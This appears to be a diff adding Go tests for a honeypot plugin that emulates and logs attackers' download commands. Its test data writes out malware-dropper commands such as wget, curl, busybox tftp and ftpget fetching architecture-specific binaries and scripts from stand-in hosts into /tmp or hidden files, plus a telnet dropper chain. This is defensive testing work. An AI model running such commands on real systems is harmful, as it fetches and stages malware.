@@ -0,0 +1,160 @@
+package plugins
+
+import (
+	"context"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/beelzebub-labs/beelzebub/v3/internal/shell"
+	"github.com/beelzebub-labs/beelzebub/v3/internal/tracer"
+	"github.com/beelzebub-labs/beelzebub/v3/pkg/plugin"
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func TestEmulateDownload_Parsing(t *testing.T) {
+	tests := []struct {
+		args     []string
+		expected []download
+	}{
+		{[]string{"wget", "http://203.0.113.7/bins/x86"}, []download{{Tool: "wget", URL: "http://203.0.113.7/bins/x86", Method: "GET", OutputFile: "x86"}}},
+		{[]string{"wget", "-qO-", "http://x.example/i.sh"}, []download{{Tool: "wget", URL: "http://x.example/i.sh", Method: "GET", OutputFile: "-"}}},
+		{[]string{"wget", "-q", "-O", "/tmp/.b", "x.example/b"}, []download{{Tool: "wget", URL: "http://x.example/b", Method: "GET", OutputFile: "/tmp/.b"}}},
+		{[]string{"wget", "--output-document=/tmp/a", "--post-data=id=1", "http://x.example/"}, []download{{Tool: "wget", URL: "http://x.example/", Method: "POST", OutputFile: "/tmp/a"}}},
+		{[]string{"/usr/bin/wget", "-P", "/dev/shm", "-U", "Mozilla", "http://x.example/a", "http://x.example/b"}, []download{
+			{Tool: "wget", URL: "http://x.example/a", Method: "GET", OutputFile: "/dev/shm/a"},
+			{Tool: "wget", URL: "http://x.example/b", Method: "GET", OutputFile: "/dev/shm/b"},
+		}},
+		{[]string{"busybox", "wget", "http://x.example/mips", "-O", "m"}, []download{{Tool: "wget", URL: "http://x.example/mips", Method: "GET", OutputFile: "m"}}},
+		{[]string{"curl", "-fsSL", "https://x.example/install.sh"}, []download{{Tool: "curl", URL: "https://x.example/install.sh", Method: "GET", OutputFile: "-"}}},
+		{[]string{"curl", "-sLo", "/tmp/k", "http://x.example/k"}, []download{{Tool: "curl", URL: "http://x.example/k", Method: "GET", OutputFile: "/tmp/k"}}},
+		{[]string{"curl", "-O", "-H", "Accept: */*", "http://x.example/dir/k.tar.gz"}, []download{{Tool: "curl", URL: "http://x.example/dir/k.tar.gz", Method: "GET", OutputFile: "k.tar.gz"}}},
+		{[]string{"curl", "-X", "put", "--data", "x", "--url", "http://x.example/up"}, []download{{Tool: "curl", URL: "http://x.example/up", Method: "PUT", OutputFile: "-"}}},
+		{[]string{"curl", "-d", "a=1", "http://x.example/"}, []download{{Tool: "curl", URL: "http://x.example/", Method: "POST", OutputFile: "-"}}},
+		{[]string{"tftp", "-g", "-r", "bins/arm7", "203.0.113.7"}, []download{{Tool: "tftp", URL: "tftp://203.0.113.7/bins/arm7", OutputFile: "arm7"}}},
+		{[]string{"busybox", "tftp", "-l", ".t", "-r", "t", "-g", "203.0.113.7", "69"}, []download{{Tool: "tftp", URL: "tftp://203.0.113.7:69/t", OutputFile: ".t"}}},
+		{[]string{"tftp", "203.0.113.7", "-c", "get", "t.sh"}, []download{{Tool: "tftp", URL: "tftp://203.0.113.7/t.sh", OutputFile: "t.sh"}}},
+		{[]string{"tftp", "-p", "-l", "loot", "203.0.113.7"}, nil},
+		{[]string{"ftpget", "-v", "-u", "anonymous", "-p", "secret", "203.0.113.7", "f.sh", "/pub/f.sh"}, []download{{Tool: "ftpget", URL: "ftp://anonymous@203.0.113.7/pub/f.sh", OutputFile: "f.sh"}}},
+		{[]string{"busybox", "ftpget", "-P", "2121", "203.0.113.7", "f.sh"}, []download{{Tool: "ftpget", URL: "ftp://203.0.113.7:2121/f.sh", OutputFile: "f.sh"}}},
+	}
+
+	for _, tt := range tests {
+		t.Run(strings.Join(tt.args, " "), func(t *testing.T) {
+			_, downloads, ok := emulateDownload(shell.Command{Args: tt.args}, time.Now())
+			assert.True(t, ok)
+			assert.Equal(t, tt.expected, downloads)
+		})
+	}
+}
+
+func TestEmulateDownload_Errors(t *testing.T) {
+	tests := []struct {
+		args     []string
+		expected string
+	}{
+		{[]string{"wget"}, "wget: missing URL\nUsage: wget [OPTION]... [URL]...\n\nTry `wget --help' for more options."},
+		{[]string{"curl", "-s"}, "curl: try 'curl --help' or 'curl --manual' for more information"},
+		{[]string{"busybox", "WGET", "http://x.example/"}, "WGET: applet not found"},
+		{[]string{"busybox", "curl", "http://x.example/"}, "curl: applet not found"},
+		{[]string{"ftpget", "203.0.113.7"}, "BusyBox v1.36.1 (2023-11-07 18:53:09 UTC) multi-call binary.\n\nUsage: ftpget [OPTIONS] HOST [LOCAL_FILE] REMOTE_FILE"},
+		{[]string{"nc", "203.0.113.7"}, "nc: command not found"},
+	}
+
+	for _, tt := range tests {
+		t.Run(strings.Join(tt.args, " "), func(t *testing.T) {
+			output, downloads, ok := emulateDownload(shell.Command{Args: tt.args}, time.Now())
+			assert.False(t, ok)
+			assert.Empty(t, downloads)
+			assert.Equal(t, tt.expected, output)
+		})
+	}
+}
+
+func TestEmulateDownload_Output(t *testing.T) {
+	now := time.Date(2026, 10, 17, 2, 54, 1, 0, time.UTC)
+
+	output, _, _ := emulateDownload(shell.Command{Args: []string{"wget", "http://203.0.113.7/bins/x86"}}, now)
+	lines := strings.Split(output, "\n")
+	assert.Equal(t, "--2026-10-17 02:54:01--  http://203.0.113.7/bins/x86", lines[0])
+	assert.Equal(t, "Connecting to 203.0.113.7:80... connected.", lines[1])
+	assert.Equal(t, "HTTP request sent, awaiting response... 200 OK", lines[2])
+	assert.Regexp(t, `^Length: \d+ \(\d+K\) \[application/octet-stream\]$`, lines[3])
+	assert.Equal(t, "Saving to: ‘x86’", lines[4])
+	assert.Regexp(t, `^2026-10-17 02:54:01 \([0-9.]+ MB/s\) - ‘x86’ saved \[(\d+)/(\d+)\]$`, lines[len(lines)-1])
+
+	again, _, _ := emulateDownload(shell.Command{Args: []string{"wget", "http://203.0.113.7/bins/x86"}}, now)
+	assert.Equal(t, output, again)
+
+	output, _, _ = emulateDownload(shell.Command{Args: []string{"wget", "https://x.example/i.sh"}}, now)
+	assert.Regexp(t, `^Resolving x\.example \(x\.example\)\.\.\. \d+\.\d+\.\d+\.\d+$`, strings.Split(output, "\n")[1])
+
+	output, _, _ = emulateDownload(shell.Command{Args: []string{"busybox", "wget", "http://203.0.113.7/x"}}, now)
+	assert.True(t, strings.HasPrefix(output, "Connecting to 203.0.113.7 (203.0.113.7:80)\nsaving to 'x'\n"), output)
+	assert.True(t, strings.HasSuffix(output, "'x' saved"), output)
+
+	output, _, _ = emulateDownload(shell.Command{Args: []string{"curl", "-o", "k", "http://x.example/k"}}, now)
+	assert.True(t, strings.HasPrefix(output, "  % Total    % Received % Xferd  Average Speed"), output)
+
+	for _, args := range [][]string{
+		{"wget", "-q", "http://x.example/k"},
+		{"curl", "-s", "-o", "k", "http://x.example/k"},
+		{"curl", "http://x.example/k"},
+		{"tftp", "-g", "-r", "k", "203.0.113.7"},
+	} {
+		output, _, ok := emulateDownload(shell.Command{Args: args}, now)
+		assert.True(t, ok)
+		assert.Empty(t, output, strings.Join(args, " "))
+	}
+}
+
+type recordingTracer struct {
+	events []tracer.Event
+}
+
+func (r *recordingTracer) TraceEvent(event tracer.Event) {
+	r.events = append(r.events, event)
+}
+
+func TestDownloadPlugin_TracesDownloads(t *testing.T) {
+	commandPlugin, ok := plugin.GetCommand(DownloadPluginName)
+	require.True(t, ok)
+
+	tr := &recordingTracer{}
+	request := plugin.CommandRequest{
+		Command:     "cd /tmp; wget -q http://203.0.113.7/x86 && busybox tftp -g -r arm 203.0.113.7",
+		ClientIP:    "198.51.100.1",
+		RemoteAddr:  "198.51.100.1:53124",
+		SourcePort:  "53124",
+		Description: "TELNET router",
+		Protocol:    "telnet",
+		SessionID:   "session",
+		User:        "root",
+	}
+	output, err := commandPlugin.Execute(tracer.NewContext(context.Background(), tr), request)
+	require.NoError(t, err)
+	assert.Equal(t, "cd: command not found", output)
+
+	require.Len(t, tr.events, 2)
+	assert.Equal(t, tracer.Event{
+		Msg:         "TELNET Download Attempt",
+		Protocol:    "TELNET",
+		Status:      tracer.Download.String(),
+		ID:          "session",
+		RemoteAddr:  "198.51.100.1:53124",
+		SourceIp:    "198.51.100.1",
+		SourcePort:  "53124",
+		Description: "TELNET router",
+		User:        "root",
+		Command:     request.Command,
+		Handler:     "wget",
+		URL:         "http://203.0.113.7/x86",
+		HTTPMethod:  "GET",
+		FileName:    "x86",
+	}, tr.events[0])
+	assert.Equal(t, "tftp://203.0.113.7/arm", tr.events[1].URL)
+
+	_, err = commandPlugin.Execute(context.Background(), request)
+	assert.NoError(t, err)
+}